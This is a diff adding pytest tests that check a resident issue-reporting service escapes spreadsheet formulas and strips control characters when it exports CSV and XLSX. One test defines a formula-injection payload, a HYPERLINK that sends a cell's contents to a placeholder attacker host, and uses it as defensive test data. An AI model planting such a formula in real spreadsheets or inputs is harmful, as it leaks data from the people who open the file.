@@ -299,3 +299,49 @@ def test_an_empty_database_exports(api: TestClient, tokens: dict[str, str], fmt:
     response = export(api, fmt, tokens["admin"])
     assert response.status_code == 200, response.text
     assert response.content
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+
+
+def test_a_formula_a_resident_typed_stays_text_in_csv_and_xlsx(
+    api: TestClient, tokens: dict[str, str]
+) -> None:
+    from openpyxl import load_workbook
+
+    report(api, description=FORMULA)
+    report(api, description="+1 楼道又堆满了", reporter=REPORTER)
+    csv = export(api, "csv", tokens["manager"])
+    assert csv.status_code == 200
+    frame = pd.read_csv(io.BytesIO(csv.content), encoding="utf-8-sig")
+    assert set(frame["description"]) == {"'" + FORMULA, "'+1 楼道又堆满了"}
+    xlsx = export(api, "xlsx", tokens["manager"])
+    assert xlsx.status_code == 200
+    sheet = load_workbook(io.BytesIO(xlsx.content))["issues"]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
+    assert FORMULA in {c.value for c in cells}  # kept as the resident wrote it, as text
+
+
+def test_characters_a_format_cannot_hold_do_not_break_the_export(
+    api: TestClient, tokens: dict[str, str], loaded_url: str
+) -> None:
+    from openpyxl import load_workbook
+    from sqlalchemy import update
+    from sqlalchemy.orm import Session
+
+    from store.db import make_engine
+    from store.models import Issue
+
+    case = report(api)
+    # as an older version of the service may have stored it
+    engine = make_engine(loaded_url)
+    with Session(engine) as session, session.begin():
+        session.execute(
+            update(Issue).where(Issue.id == case["id"]).values(description="铃\u0007声\u001b响")
+        )
+    engine.dispose()
+    for fmt in FORMATS:
+        assert export(api, fmt, tokens["manager"]).status_code == 200, fmt
+    sheet = load_workbook(io.BytesIO(export(api, "xlsx", tokens["manager"]).content))["issues"]
+    assert "铃\ufffd声\ufffd响" in {c.value for row in sheet.iter_rows() for c in row}
